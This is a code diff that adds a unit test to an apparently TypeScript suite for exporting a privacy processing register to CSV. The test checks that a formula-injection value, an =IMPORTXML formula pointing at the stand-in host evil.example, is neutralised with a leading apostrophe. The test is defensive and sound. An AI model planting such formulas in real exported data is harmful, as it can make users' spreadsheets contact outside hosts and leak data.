@@ -125,6 +125,13 @@ describe('registerToCsv', () => {
     assert.equal(readCsv(registerToCsv(buildRegister(minimalPolicy()), 'en'))[0]?.[0], 'Activity');
   });
 
+  it('neutralises a text a spreadsheet would run as a formula with a leading apostrophe', () => {
+    const policy = minimalPolicy();
+    policy.purposes.items[0]!.name.nl = '=IMPORTXML("https://evil.example","//a")';
+    const rows = readCsv(registerToCsv(buildRegister(policy), 'nl'));
+    assert.equal(rows[1]?.[1], `'=IMPORTXML("https://evil.example","//a")`);
+  });
+
   it('keeps a purpose with a comma, a quote and a line break intact in one field', () => {
     const policy = minimalPolicy();
     const tricky = 'Leveren, "snel"\nen veilig';
